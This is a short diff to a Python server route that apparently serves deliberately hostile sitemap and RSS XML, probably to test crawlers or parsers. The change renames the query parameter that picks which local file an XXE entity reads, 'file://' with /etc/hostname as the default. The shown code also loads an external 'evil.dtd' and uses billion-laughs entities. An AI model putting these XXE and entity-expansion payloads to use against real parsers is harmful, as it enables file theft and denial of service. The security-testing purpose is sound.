@@ -440,7 +440,7 @@ async def xml_route(c: Conn, host, path, q, port):
                 f"<url><loc>{base}/page/after-laughs</loc></url></urlset>")
         return await c.respond(200, body.encode(), content_type=xml)
     if path == "/sitemap/xxe.xml":
-        secret = q.get("secret", "/etc/hostname")
+        secret = q.get("file", "/etc/hostname")
         body = (f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file://{secret}">'
                 f'<!ENTITY % ext SYSTEM "{base}/dtd/evil.dtd"> %ext;]>'
                 f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{base}/page/x&xxe;</loc></url>'
@@ -477,7 +477,7 @@ async def xml_route(c: Conn, host, path, q, port):
                 f"<item><title>&lol9;</title><link>{base}/page/feed-laughs</link></item></channel></rss>")
         return await c.respond(200, body.encode(), content_type="application/rss+xml")
     if path == "/feed/xxe.xml":
-        secret = q.get("secret", "/etc/hostname")
+        secret = q.get("file", "/etc/hostname")
         body = (f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">'
                 f'<!ENTITY % ext SYSTEM "{base}/dtd/evil.dtd"> %ext;]><rss version="2.0"><channel><title>x</title>'
                 f"<item><title>&xxe;</title><link>{base}/page/feed-xxe</link><description>&xxe;</description></item>"
